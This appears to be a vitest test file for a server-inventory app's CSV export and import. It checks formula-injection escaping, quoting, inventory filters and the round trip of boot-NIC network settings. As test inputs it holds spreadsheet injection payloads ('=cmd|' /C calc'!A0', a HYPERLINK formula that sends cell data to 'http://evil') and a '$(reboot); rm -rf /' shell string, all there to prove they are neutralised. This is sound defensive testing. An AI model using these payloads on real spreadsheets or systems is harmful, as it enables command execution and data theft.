import Papa from "papaparse";
import { eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { alias } from "drizzle-orm/sqlite-core";
import { machines, nics, racks, subnets } from "../db/schema";
import { machineInput } from "../testing/fixtures";
import { createHarness, type Harness } from "../testing/harness";
import { CSV_EXPORT_COLUMNS, csvCell, machinesCsv } from "./export-csv";
import { importCsv } from "./csv";
import { listMachines } from "./queries";

const subnetsAlias = alias(subnets, "subnets6");

const parse = (text: string) => Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true }).data;
const exportAll = (h: Harness, f: Parameters<typeof machinesCsv>[1], chunk?: number) => [...machinesCsv(h.db, f, chunk)].join("");

describe("csvCell: formula injection and quoting", () => {
  it.each([
    ["=1+2", "'=1+2"],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["\t=x", "'\t=x"],
    ["\r=x", `"'\r=x"`],
    ['=HYPERLINK("http://evil","click")', `"'=HYPERLINK(""http://evil"",""click"")"`],
    ["a,b", '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ["line\nbreak", '"line\nbreak"'],
    ["nul\0byte", "nul\0byte"],
    ["$(reboot); rm -rf / & ..\\x", "$(reboot); rm -rf / & ..\\x"],
    ["ünïcödé ✓", "ünïcödé ✓"],
    ["x".repeat(5000), "x".repeat(5000)],
  ])("%j → %j", (input, want) => {
    expect(csvCell(input)).toBe(want);
  });
  it("leaves numbers, booleans and empty values as they are", () => {
    expect([csvCell(-1), csvCell(2.5), csvCell(true), csvCell(null), csvCell(undefined), csvCell("")]).toEqual(["-1", "2.5", "true", "", "", ""]);
  });
});

describe("machinesCsv", () => {
  let h: Harness;
  const HOSTILE_ERR = '=HYPERLINK("http://evil/?"&A1,"x")\r\n@SUM(1)\0, "quoted" ünï';
  beforeAll(async () => {
    h = createHarness();
    for (let i = 1; i <= 25; i++) await h.operator.machines.enroll(machineInput(i));
    const inv = (gib: number, disks: number, model: string) => ({ cpu: { model }, memoryBytes: gib * 2 ** 30, disks: Array.from({ length: disks }, (_, k) => ({ name: `sd${k}` })) });
    h.db.update(machines).set({ inventory: inv(64, 2, "Intel(R) Xeon(R) Gold 6338") }).where(eq(machines.name, "node-001")).run();
    h.db.update(machines).set({ inventory: inv(8, 1, "=cmd|' /C calc'!A0"), lastError: HOSTILE_ERR }).where(eq(machines.name, "node-002")).run();
    h.db.update(machines).set({ inventory: inv(256, 4, "AMD EPYC 7763 64-Core 100%_x") }).where(eq(machines.name, "node-003")).run();
    const rack = (await h.operator.racks.create({ name: "rack-a" })).id;
    h.db.update(racks).set({ name: "-rack+1" }).where(eq(racks.id, rack)).run();
    h.db.update(machines).set({ rackId: rack, uPosition: 3 }).where(eq(machines.name, "node-004")).run();
  });
  afterAll(() => h.close());

  it("exports every matching machine once, in the table's order, across chunks", () => {
    const rows = parse(exportAll(h, { sort: "name", dir: "desc" }, 7));
    expect(Object.keys(rows[0]!)).toEqual([...CSV_EXPORT_COLUMNS]);
    expect(rows.map((r) => r.name)).toEqual(listMachines(h.db, { sort: "name", dir: "desc", page: 1, pageSize: 100 }).rows.map((r) => r.name));
    expect(rows).toHaveLength(25);
  });

  it("hostile values stay in their field, neutralised; nothing is lost", () => {
    const rows = parse(exportAll(h, { sort: "name", dir: "asc" }));
    const n2 = rows.find((r) => r.name === "node-002")!;
    expect(n2.last_error).toBe(`'${HOSTILE_ERR}`);
    expect(n2.cpu_model).toBe("'=cmd|' /C calc'!A0");
    expect(n2.memory_gib).toBe("8");
    expect(rows.find((r) => r.name === "node-004")!.rack).toBe("'-rack+1");
    expect(rows.find((r) => r.name === "node-004")!.u_position).toBe("3");
    for (const r of rows) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("applies the inventory filters: minimum memory, disk count, CPU model (literal text)", () => {
    const names = (f: object) => parse(exportAll(h, { sort: "name", dir: "asc", ...f })).map((r) => r.name);
    expect(names({ minMemoryGiB: 64 })).toEqual(["node-001", "node-003"]);
    expect(names({ minMemoryGiB: 64.5 })).toEqual(["node-003"]);
    expect(names({ minDisks: 2 })).toEqual(["node-001", "node-003"]);
    expect(names({ minDisks: 0 })).toEqual(["node-001", "node-002", "node-003"]);
    expect(names({ cpuModel: "xeon" })).toEqual(["node-001"]);
    expect(names({ cpuModel: "100%_" })).toEqual(["node-003"]);
    expect(names({ cpuModel: "%" })).toEqual(["node-003"]);
    expect(names({ cpuModel: "epyc", minMemoryGiB: 300 })).toEqual([]);
    expect(listMachines(h.db, { minDisks: 1, sort: "name", dir: "asc", page: 1, pageSize: 50 }).total).toBe(3);
  });

  it("the router validates the inventory filters", async () => {
    await expect(h.viewer.machines.list({ minDisks: -1 })).rejects.toThrow();
    await expect(h.viewer.machines.list({ minDisks: 1.5 })).rejects.toThrow();
    await expect(h.viewer.machines.list({ cpuModel: "x".repeat(101) })).rejects.toThrow(/100/);
    expect((await h.viewer.machines.count({ minMemoryGiB: 8 })).total).toBe(3);
  });
});

describe("CSV export → import round trip of the boot NIC's network (issue 14)", () => {
  let h: Harness;
  let other: Harness;
  beforeAll(() => {
    h = createHarness();
    other = createHarness();
  });
  afterAll(() => {
    h.close();
    other.close();
  });

  const network = (x: Harness) =>
    x.db
      .select({ name: machines.name, ip: nics.ip, prefix: nics.prefix, mode: nics.addressMode, subnet: subnets.name, ip6: nics.ip6, mode6: nics.ipv6Mode, subnet6: subnetsAlias.name })
      .from(nics)
      .innerJoin(machines, eq(machines.id, nics.machineId))
      .leftJoin(subnets, eq(subnets.id, nics.subnetId))
      .leftJoin(subnetsAlias, eq(subnetsAlias.id, nics.subnet6Id))
      .where(eq(nics.isBoot, true))
      .orderBy(machines.name)
      .all();

  it("gives the same subnets, modes and addresses in a fresh database with the same subnets", async () => {
    for (const x of [h, other]) {
      await x.admin.subnets.create({ name: "rt-v4", cidr: "10.66.0.0/24", gateway: "10.66.0.1", reserved: [{ start: "10.66.0.2", end: "10.66.0.9" }] });
      await x.admin.subnets.create({ name: "rt-v6", cidr: "fd66::/64", gateway: "fd66::1" });
    }
    const v4 = (await h.viewer.subnets.list()).find((s) => s.name === "rt-v4")!.id;
    const v6 = (await h.viewer.subnets.list()).find((s) => s.name === "rt-v6")!.id;
    await h.operator.machines.enroll(machineInput(1, { ip: null, network: { ifname: "eno1", subnetId: v4 } })); // auto
    await h.operator.machines.enroll(machineInput(2, { ip: "10.66.0.50", network: { subnetId: v4, addressMode: "static" } }));
    await h.operator.machines.enroll(machineInput(3, { ip: "10.66.0.60", network: { subnetId: v4, addressMode: "dhcp" } }));
    await h.operator.machines.enroll(machineInput(4, { ip: null, network: { subnetId: v4, addressMode: "none" } }));
    await h.operator.machines.enroll(machineInput(5, { ip: null, network: { subnetId: v6 } })); // IPv6 auto
    await h.operator.machines.enroll(machineInput(6, { ip: "10.0.0.6" })); // no subnet: a typed IP
    await h.operator.machines.enroll(machineInput(7, { ip: null, network: { addressMode: "dhcp" } }));
    await h.operator.machines.enroll(machineInput(8, { ip: "10.66.0.11", network: { subnetId: v4, addressMode: "auto" } })); // typed IP ignored: auto

    const csv = exportAll(h, { sort: "name", dir: "asc" });
    const rows = parse(csv);
    expect(rows.map((r) => [r.name, r.subnet, r.address_mode])).toEqual([
      ["node-001", "rt-v4", "auto"],
      ["node-002", "rt-v4", "static"],
      ["node-003", "rt-v4", "dhcp"],
      ["node-004", "rt-v4", "none"],
      ["node-005", "rt-v6", "auto"],
      ["node-006", "", ""],
      ["node-007", "", "dhcp"],
      ["node-008", "rt-v4", "auto"],
    ]);
    // The export imports as it is (its state, inventory … columns are ignored) and gives the same network.
    const r = await importCsv(other.domain, csv, "user:test", false);
    expect(r.errors).toEqual([]);
    expect(r.imported).toBe(8);
    const before = network(h);
    expect(before.find((m) => m.name === "node-001")).toMatchObject({ ip: "10.66.0.10", mode: "auto", subnet: "rt-v4" });
    expect(before.find((m) => m.name === "node-005")).toMatchObject({ ip6: "fd66::2", mode6: "auto", subnet6: "rt-v6" });
    expect(network(other)).toEqual(before);
    // And once more: the re-imported fleet exports the same cells.
    expect(parse(exportAll(other, { sort: "name", dir: "asc" })).map((x) => [x.name, x.ip, x.subnet, x.address_mode])).toEqual(rows.map((x) => [x.name, x.ip, x.subnet, x.address_mode]));
  });

  it("a hostile subnet name stays in its cell and is refused by the import as no such subnet, naming row and column", async () => {
    const name = "=cmd.x";
    await expect(h.admin.subnets.create({ name, cidr: "10.67.0.0/24" })).rejects.toThrow(); // not a subnet name at all
    const csv = `name,mac,subnet,address_mode,state\r\nnode-x,52:54:00:09:09:09,"'=cmd|' /C calc'!A0",auto,deployed\r\n`;
    const r = await importCsv(other.domain, csv, "user:test", true);
    expect(r.ok).toBe(false);
    expect(r.errors).toEqual([expect.objectContaining({ row: 1, field: "subnet", message: expect.stringContaining("No subnet named") })]);
  });
});
